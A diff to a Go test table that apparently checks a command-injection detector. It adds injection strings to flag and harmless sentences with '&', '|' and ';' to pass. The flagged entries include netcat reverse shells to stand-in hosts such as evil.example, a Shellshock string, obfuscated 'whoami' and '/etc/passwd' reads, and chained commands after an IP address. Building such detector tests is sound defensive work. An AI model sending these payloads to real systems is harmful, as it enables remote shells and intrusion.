@@ -42,7 +42,13 @@ var checkCases = []struct {
 		"() { :; }; echo ; /bin/bash -c 'ls'", "$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)",
 		"`curl -L http://x.example`", "127.0.0.1; whoami", "a | nc -e /bin/sh 10.0.0.1 4444", "x; sleep$IFS5",
 		"echo $((3482*7301))", " ls /etc",
+		"127.0.0.1;id", "127.0.0.1|id", "x || pwd", "x; sleep 10", "x|sleep 10", "x;/bin/sh", "x & net user",
+		"x | nc evil.example 4444 -e /bin/sh", "x;w'h'o'am'i", "x;wh$@oami", `x;who\ami`, "x;/???/?at /???/p??swd",
+		"127.0.0.1\nid", "1;ping 10.0.0.1",
 	}, []string{
+		"Gifts & more", "Salt & pepper & more", "Name | Date | Time", "Work hard; sleep 8 hours a night", "Name|ID|Who",
+		"Notes; I'd say yes", "Ask; don't wait", "Rock | Paper | Scissors", "it's 10; sleep tight", "see /api/v1/?page=2; ok",
+		"Q&A; who", "a/b; c/d", "x; /* comment */ y",
 		"cats && dogs", "Tom & Jerry", "rock & roll", "echo in the mirror", "curl and divergence",
 		"bash away in the gym", "ls 300 lexus", "nc 8000 controller", "zsh is the best!", "exec noun",
 		"salt; pepper", "DEAR FINN,--I think it would do; copy should reach us second post",
